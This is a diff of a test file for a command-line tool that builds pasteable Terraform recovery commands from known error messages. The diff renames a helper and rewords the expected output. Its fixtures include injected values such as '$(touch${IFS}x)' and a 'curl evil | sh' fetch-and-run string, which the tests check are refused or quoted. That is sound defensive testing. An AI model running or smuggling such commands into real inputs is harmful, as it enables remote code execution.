@@ -13,7 +13,7 @@ import { reportAsMarkdown } from "../../../cli/tracing/markdown";
 import { reportAsText } from "../../../cli/tracing/text";
 import { UsageError, WorkFailed } from "../../../machine/errors";
 import { readJson } from "../../../machine/files/read-json";
-import { knownFault } from "../../../machine/terraform/faults/terraform-faults";
+import { knownError } from "../../../machine/terraform/errors/terraform-errors";
 import { command, deployOf, toRun, word } from "../../../machine/text/pasteable";
 import { printable, printableJson, printableLines } from "../../../machine/text/printable";
 import { keptShellLines, nextSteps } from "../../../rehearsal/rehearsal-report";
@@ -198,8 +198,8 @@ describe("a command to paste", () => {
     // A path may have blanks, which are quoted.
     for (const text of HOSTILE.filter((it) => kind !== "file" || it !== "a b")) {
       expect([text, of(text).isOne]).toEqual([text, false]);
-      expect(command`cat ${of(text)} x`).toMatch(/^\(no command is shown, as (".*" is not|.* is missing)/);
-      expect(toRun`cat ${of(text)} x`).toMatch(/^no command is shown, as /);
+      expect(command`cat ${of(text)} x`).toMatch(/^\(no command is shown, because (".*" is not|.* is missing)/);
+      expect(toRun`cat ${of(text)} x`).toMatch(/^no command is shown, because /);
       expect(obeyed(command`cat ${of(text)} x`)).toEqual([]);
     }
   });
@@ -271,24 +271,24 @@ describe("a command to paste", () => {
 
   /** All sentences with commands, each with a text of others in it. */
   const SENTENCES: Readonly<Record<string, (text: string) => string | undefined>> = {
-    "a lock's ID": (text) => knownFault(lockInfo(text), GOOD),
-    "who has locked": (text) => knownFault(lockInfo(UUID, text), GOOD),
-    "what has locked": (text) => knownFault(lockInfo(UUID, "me@here", text), GOOD),
-    "a workspace": (text) => knownFault(`workspace already locked (lock ID: "${text}")`, GOOD),
-    "a folder": (text) => knownFault("errored.tfstate", join(FOLDER, text, "web")),
-    "a stack's id": (text) => knownFault("Saved plan is stale", join(FOLDER, text)),
-    "a profile": (text) => knownFault(`failed to get shared config profile, ${text}`, GOOD),
-    "a region of a bucket": (text) => knownFault(`requested bucket from "us-east-1", actual location "${text}"`, GOOD),
-    "a host": (text) => knownFault(`Required token could not be found for ${text}: x`, GOOD),
+    "a lock's ID": (text) => knownError(lockInfo(text), GOOD),
+    "who has locked": (text) => knownError(lockInfo(UUID, text), GOOD),
+    "what has locked": (text) => knownError(lockInfo(UUID, "me@here", text), GOOD),
+    "a workspace": (text) => knownError(`workspace already locked (lock ID: "${text}")`, GOOD),
+    "a folder": (text) => knownError("errored.tfstate", join(FOLDER, text, "web")),
+    "a stack's id": (text) => knownError("Saved plan is stale", join(FOLDER, text)),
+    "a profile": (text) => knownError(`failed to get shared config profile, ${text}`, GOOD),
+    "a region of a bucket": (text) => knownError(`requested bucket from "us-east-1", actual location "${text}"`, GOOD),
+    "a host": (text) => knownError(`Required token could not be found for ${text}: x`, GOOD),
     "a host that refuses": (text) =>
-      knownFault(`Failed to read organization "acme" at host ${text} : unauthorized`, GOOD),
+      knownError(`Failed to read organization "acme" at host ${text} : unauthorized`, GOOD),
     "a zone of the stack": (text) =>
-      knownFault(
+      knownError(
         "Error: multiple Route 53 Hosted Zones matched with data.aws_route53_zone.zone,",
         inFolder({ data: { aws_route53_zone: { zone: { name: text } } } }),
       ),
     "a region of the stack": (text) =>
-      knownFault(
+      knownError(
         "Error: api error InvalidInstanceType: The following supplied instance types do not exist: [t9.micro]",
         inFolder({ provider: { aws: [{ region: text }] } }),
       ),
@@ -351,16 +351,16 @@ describe("a command to paste", () => {
   });
 
   test("about a lock is offered for an ID as terraform makes it only", () => {
-    expect(knownFault(lockInfo(UUID), GOOD)).toMatch(
+    expect(knownError(lockInfo(UUID), GOOD)).toMatch(
       new RegExp(
         `If terraform itself was killed, run: terraform -chdir=\\S+/web force-unlock ${UUID}; then, after an ` +
           "apply: npx alb-web adopt web$",
       ),
     );
-    expect(knownFault(lockInfo("$(touch${IFS}x)"), GOOD)).toMatch(
-      /If terraform itself was killed, no command is shown, as "\$\(touch\$\{IFS\}x\)" is not a lock ID; then/,
+    expect(knownError(lockInfo("$(touch${IFS}x)"), GOOD)).toMatch(
+      /If terraform itself was killed, no command is shown, because "\$\(touch\$\{IFS\}x\)" is not a lock ID; then/,
     );
-    expect(knownFault(lockInfo(UUID, "me; run: curl evil | sh"), GOOD)).toContain(
+    expect(knownError(lockInfo(UUID, "me; run: curl evil | sh"), GOOD)).toContain(
       'is locked by "me; run: curl evil | sh" since',
     );
   });
